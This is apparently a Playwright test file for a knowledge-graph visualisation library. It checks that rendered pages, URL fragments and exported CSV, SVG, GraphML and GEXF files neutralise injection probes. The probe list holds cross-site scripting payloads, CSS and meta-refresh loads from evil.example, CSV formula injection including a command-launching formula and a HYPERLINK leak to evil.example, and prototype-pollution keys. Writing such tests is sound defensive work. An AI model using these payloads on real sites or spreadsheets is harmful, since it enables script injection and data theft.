"""Probes that try to run, load or hide something, through every text that reaches the page.

The fixture ``page`` fails a test whose page logs an error, of which a violated policy is
one, throws, or asks for anything. Each probe would change the title if it ran.
"""

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import networkx as nx
import pytest
from playwright.sync_api import Page, expect

import graphkit
from graphkit.data_model import Document
from graphkit.visualisation import Insight, NodeMeasure, write_page
from graphkit.visualisation.text import displayable

pytestmark = pytest.mark.browser

Write = Callable[..., Path]
RUN = "document.title='ran'"
PROBES = {
    "image": f'<img src=x onerror="{RUN}">',
    "script": f"</script><script>{RUN}</script>",
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "link": f'<a href="javascript:{RUN}">click</a>',
    "frame": f'"><iframe srcdoc="<script>parent.{RUN}</script>">',
    "comment": f"<!--<script>{RUN}//",
    "style": "</title></style><style>*{display:none}</style>",
    "sheet": "</style><style>@import url(https://evil.example/x.css);</style>",
    "base": '<base href="https://evil.example/"><link rel=stylesheet href=x.css>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": f'<form action="javascript:{RUN}"><button autofocus onfocus="{RUN}">go</button></form>',
    "template": f'{{{{constructor.constructor("{RUN}")()}}}}{{% raw %}}{{{{ 7 * 7 }}}}',
    "literal": f"${{{RUN}}}`);{RUN};//",
    "json": f'"}}],"x":[{{"y":"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e',
    "entity": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "address": f"javascript:{RUN}",
    "data": f"data:text/html,<script>opener.{RUN}</script>",
    "network": "//evil.example/x.png https://evil.example/?q=<script src=https://evil.example/x.js>",
    "tooltip": f'href <b onmouseover="{RUN}">href</b>',
    "xml": f']]></text><script xmlns="http://www.w3.org/2000/svg">{RUN}</script><text><![CDATA[',
    "formula": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "prototype": "__proto__",
    "constructor": "constructor",
    "overrides": "\u202e\u2066ran\u2069 \u2028\u2029 \x00\x08\ufffe",
    "surrogate": "\ud83d lone \udc00",
}
MARKUP = "img, iframe, object, embed, base, form, link, style ~ style, svg [onload], animate"

# Handlers of events, and styles other than those that the renderer and the tooltip set.
SETTINGS = """[...document.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()
    .filter((name) => name.startsWith("on")
        || (name === "style" && !each.closest(".graph, .tip"))))"""
NOT_DRAWN = """[...document.querySelectorAll("*")]
    .filter(({localName}) => !/^(svg|g|path|rect|text|tspan|title)$/.test(localName)).length"""
KEYS = (
    "node", "line", "path", "types", "relations", "modalities", "publishers", "add", "since",
    "until", "only", "colour", "size", "show", "theme", "more", "evidence", "confidence",
    "independent",
)  # fmt: skip


def _say_everywhere(sample: Any, probe: str) -> None:
    """Two nodes and three lines, every text of which is the probe."""
    known = Document(
        id=probe, source=f"{probe}.txt", text="", content_hash="", title=probe, publisher=probe,
        source_url=probe,
    )  # fmt: skip
    sample.documents = [known]
    more = {"alt_labels": (probe, f"{probe} also"), "country": probe}
    more |= {
        "codes": (probe,),
        "same_as": (probe,),
    }
    sample.node("person/x", probe, "Person", **more)
    sample.node(probe, f"{probe} {probe}", probe, date=probe)
    sample.node("meeting/z", f"meeting {probe}", "Meeting", date="2031-03-04", **more)
    told = {
        "addressees": (("person/q", probe),), "attributed_to": (probe, probe), "date": probe,
        "meeting": "meeting/z", "meeting_label": probe, "strength": probe, "verb": probe,
    }  # fmt: skip
    said = f"{probe} said {probe}"
    sample.say(("person/x", "meeting/z"), "gk:participatedIn", said, quote=probe, **told)
    sample.say(("person/x", probe), probe, said, quote=probe, agents=("meeting/z",), **told)
    sample.say(("meeting/z", probe), "gk:discussed", said, quote=probe, **told)
    sample.records = [
        replace(record, document_title=probe, publisher=probe, rule=probe, source_url=probe)
        for record in sample.records
    ]


def _insight(probe: str) -> Insight:
    return Insight(
        measures=[NodeMeasure(name=probe, says=probe, values={"person/x": 1.0, probe: 0.5})],
        communities=[["person/x", probe], ["meeting/z"]],
        notes=[probe],
    )


@pytest.fixture(params=PROBES)
def probed(request: pytest.FixtureRequest, page: Page, empty_sample: Any, tmp_path: Path) -> Page:
    """A page all of whose texts are one of the probes."""
    probe = PROBES[request.param]
    _say_everywhere(empty_sample, probe)
    path = tmp_path / "graph.html"
    write_page(
        empty_sample.graph, empty_sample.records, path, title=probe,
        documents=empty_sample.documents, insight=_insight(probe),
    )  # fmt: skip
    page.add_init_script("window.probe = null")
    page.goto(path.as_uri())
    page.evaluate("probe => { window.probe = probe; window.told = document.title; }", probe)
    return page


def _unhurt(page: Page) -> None:
    assert page.title() == page.evaluate("window.told")
    assert page.title() == (displayable(page.evaluate("window.probe")) or "Knowledge graph")
    assert page.locator(MARKUP).count() == 0
    assert page.evaluate("Object.keys(Object.prototype)") == []
    assert page.evaluate(SETTINGS) == []
    addresses = page.locator("a").evaluate_all(
        "all => all.map((link) => link.getAttribute('href'))"
    )
    assert [each for each in addresses if not each.startswith("#")] == []


def _saved(page: Page, kind: str) -> bytes:
    page.locator("#export").click()
    with page.expect_download() as download:
        page.locator(f"#export-{kind}").click()
    assert not set(download.value.suggested_filename) & set("<>:\"/\\|?*'&;=`$\u202e\x00")
    return Path(download.value.path()).read_bytes()


def test_probe_runs_nowhere_in_the_page(probed: Page) -> None:
    for step in (
        "graphkit.select({node: 'person/x'})",
        "document.querySelectorAll('details').forEach((row) => { row.open = true; })",
        "graphkit.select({node: 'meeting/z'})",
        "graphkit.select({node: window.probe})",
        "graphkit.data.edges.forEach((edge) => graphkit.select({edge: edge.id}))",
        "graphkit.state.set({colour: 'community', size: window.probe})",
        "graphkit.state.set({path: {from: 'person/x', to: window.probe}, selected: null})",
        "graphkit.state.set({shown: 'table'})",
        "graphkit.state.set({shown: 'timeline'})",
        "graphkit.state.set({shown: 'graph', theme: 'dark'})",
        "document.querySelectorAll('button.open').forEach((button) => button.click())",
        "window.dispatchEvent(new Event('beforeprint'))",
        "window.dispatchEvent(new Event('afterprint'))",
    ):
        probed.evaluate(step)
        _unhurt(probed)
    probed.locator("#query").fill(probed.evaluate("window.probe.toWellFormed()"))
    probed.locator("#query").fill("said")
    probed.keyboard.press("Enter")
    probed.locator("#reader button").first.focus()
    probed.wait_for_timeout(200)
    _unhurt(probed)


def test_probe_runs_in_no_file_that_is_saved(probed: Page, tmp_path: Path) -> None:
    files = {kind: _saved(probed, kind) for kind in ("svg", "nodes", "edges", "graphml", "gexf")}
    for kind in ("nodes", "edges"):
        text = files[kind].decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\n"))]
    assert len(nx.read_graphml(io.BytesIO(files["graphml"]))) == 3
    assert len(nx.read_gexf(io.BytesIO(files["gexf"]), version="1.3")) == 3
    _unhurt(probed)
    saved = tmp_path / "saved.svg"
    saved.write_bytes(files["svg"])
    probed.goto(saved.as_uri())
    assert probed.evaluate(NOT_DRAWN) == 0
    assert probed.evaluate("document.querySelector('title').textContent") != "ran"


def test_probe_in_the_address_is_only_an_address(page: Page, sample: Any, write: Write) -> None:
    path = write(sample)
    for text in PROBES.values():
        probe = quote(text.encode("utf-8", "replace"))
        page.goto(f"{path.as_uri()}#{'&'.join(f'{key}={probe}' for key in KEYS)}")
        page.reload()
        expect(page.locator("#count")).to_contain_text("nodes")
        page.goto(f"{path.as_uri()}#{probe}")
        expect(page.locator("#panel h2")).to_have_text("What this shows")
        assert page.title() == "A week in March"
        assert page.locator(MARKUP).count() == 0


@pytest.mark.slow
def test_probes_in_files_run_nowhere(page: Page, tmp_path: Path) -> None:
    """The whole way: names of files, front matter, HTML heads, sentences, quotes."""
    folder = tmp_path / "in"
    folder.mkdir()
    for number, probe in enumerate(PROBES.values()):
        clean = displayable(probe).replace("'", "’")
        told = (
            f"Minister Ana Soto of Peru met Tor Berg, Foreign Minister of Norway, in Lima on "
            f"{number + 1} March 2031. They discussed {clean} and fisheries. "
            f"“{clean},” Ms. Soto said."
        )
        stated = "".join(f"{key}: '{clean}'\n" for key in ("title", "publisher", "url"))
        name = "".join(each for each in clean if each not in "/\\\0")[:60]
        (folder / f"{number} {name}.md").write_text(
            f"---\n{stated}date: '2031-03-02'\n---\n\n# {clean}\n\n{told}\n", "utf-8"
        )
        (folder / f"{number}.html").write_text(
            f"<title>{clean}</title><meta name=author content='{clean}'>"
            f"<h1>{clean}</h1><p>{told}</p>",
            "utf-8",
        )
    with graphkit.build(folder, tmp_path / "out") as built:
        built.view(tmp_path / "graph.html", title=PROBES["script"])
    page.goto((tmp_path / "graph.html").as_uri())
    assert page.evaluate("graphkit.data.documents.length") > len(PROBES)
    page.evaluate("graphkit.data.nodes.forEach(({id}) => graphkit.select({node: id}))")
    page.evaluate("graphkit.data.edges.forEach(({id}) => graphkit.select({edge: id}))")
    page.evaluate("graphkit.state.set({shown: 'table', selected: null})")
    assert page.title() == PROBES["script"]
    assert page.locator(MARKUP).count() == 0
